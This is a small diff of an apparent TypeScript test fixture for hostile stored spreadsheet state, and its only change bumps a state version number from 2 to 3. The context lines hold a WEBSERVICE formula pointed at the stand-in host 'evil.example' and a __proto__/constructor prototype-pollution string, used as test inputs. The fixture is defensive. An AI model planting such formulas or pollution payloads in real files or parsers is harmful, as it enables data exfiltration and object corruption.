@@ -4,7 +4,7 @@ export type HostileStored = Readonly<{ name: string; kind: 'settings' | 'goals' 
 const formula = { kind: 'call', name: 'WEBSERVICE', arguments: [{ kind: 'text', value: 'http://evil.example' }] };
 const harm = '"__proto__":{"harmed":1},"constructor":{"prototype":{"harmed":1}}';
 const state = (step: unknown): string =>
-  JSON.stringify({ version: 2, states: [{ titles: [], steps: [step], after: [], cells: [] }] });
+  JSON.stringify({ version: 3, states: [{ titles: [], steps: [step], after: [], cells: [] }] });
 const cell = (content: unknown, row: unknown = 0): unknown => ({
   kind: 'set-cells',
   title: 'KPIs',
